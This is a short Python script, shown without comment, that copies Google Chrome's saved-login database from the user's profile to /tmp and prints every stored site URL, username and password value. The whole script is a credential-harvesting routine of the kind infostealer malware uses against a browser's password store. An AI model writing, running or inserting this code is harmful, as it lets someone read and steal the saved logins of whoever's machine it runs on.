import os
import shutil
import sqlite3

source = os.path.join(os.path.expanduser("~"), ".config", "google-chrome", "Default", "Login Data")
shutil.copy(source, "/tmp/l.db")
for row in sqlite3.connect("/tmp/l.db").execute("select origin_url, username_value, password_value from logins"):
    print(row)
